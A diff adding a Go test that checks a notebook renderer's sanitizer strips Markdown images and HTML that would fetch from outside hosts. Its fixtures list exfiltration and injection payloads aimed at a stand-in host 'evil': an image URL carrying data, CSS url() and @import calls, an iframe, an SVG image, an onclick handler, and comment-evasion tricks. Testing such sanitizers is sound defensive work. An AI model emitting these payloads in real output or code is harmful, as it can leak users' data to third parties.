@@ -361,3 +361,40 @@ func TestWordsOfFilesAreNoMarkdownInNotebooks(t *testing.T) {
 		t.Errorf("a fence within: %s", got)
 	}
 }
+
+// Nor because of what a model says or its code shows: an address can carry what was read.
+func TestOpeningANotebookLoadsNothing(t *testing.T) {
+	for words, want := range map[string]string{
+		"2 < 3, x[0]! and <b>so</b>":               "2 < 3, x[0]! and &lt;b>so&lt;/b>",
+		"![x](http://evil/?d=1) ![x][ref]":         "!&#91;x](http://evil/?d=1) !&#91;x][ref]",
+		`\![x](y) \\![x](y) \<img src=x>`:          `\!&#91;x](y) \\!&#91;x](y) \&lt;img src=x>`,
+		"<!-- <img src=x> -->\n<IMG\nsrc=x><?x ?>": "&lt;!-- &lt;img src=x> -->\n&lt;IMG\nsrc=x>&lt;?x ?>",
+	} {
+		if got := withoutPictures(words); got != want {
+			t.Errorf("%q is shown as %q", words, got)
+		}
+	}
+	const frame = "<div>\n<style scoped>\n    .dataframe tbody tr th {\n        vertical-align: top;\n    }\n</style>\n" +
+		`<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>a &lt; b</th></tr></thead></table>` + "\n<p>1 row</p></div>"
+	if got := harmless(map[string]string{"text/html": frame, "text/plain": "x"}); got["text/html"] != frame || got["text/plain"] != "x" {
+		t.Errorf("a data frame is shown as %q", got)
+	}
+	if got := harmless(map[string]string{"text/markdown": "![x](http://evil)"}); len(got) != 1 || got["text/plain"] != "![x](http://evil)" {
+		t.Errorf("Markdown is shown as %q", got)
+	}
+	if got := harmless(map[string]string{"text/markdown": "![x](http://evil)", "text/plain": "x"}); len(got) != 1 || got["text/plain"] != "x" {
+		t.Errorf("Markdown is shown as %q", got)
+	}
+	if got := harmless(map[string]string{"text/html": `<p>x</p><table><tr><td><img src="http://evil">1</td></tr></table>`}); got["text/html"] != "<table><tr><td>1</td></tr></table>" {
+		t.Errorf("a table with a picture is shown as %q", got)
+	}
+	for _, bad := range []string{
+		`<img src="http://evil">`, `<p style="background: url(//evil)">x</p>`, `<style>@import "//evil"</style>`, `<style>p { background: \75rl(//evil) }</style>`,
+		`<p onclick="x()">x</p>`, `<td background="//evil">x</td>`, `<svg><image href="//evil"/></svg>`, `<!--><img src="//evil">-->`, `<link rel=stylesheet href="//evil">`,
+		`<p title="x" src=//evil>`, `<img src="//evil"`, `<style><!--</style><img src=//evil>`, "<iframe src=//evil>", `<p title="x`,
+	} {
+		if got := harmless(map[string]string{"text/html": bad, "text/plain": "x"}); len(got) != 1 {
+			t.Errorf("%q is shown as %q", bad, got)
+		}
+	}
+}
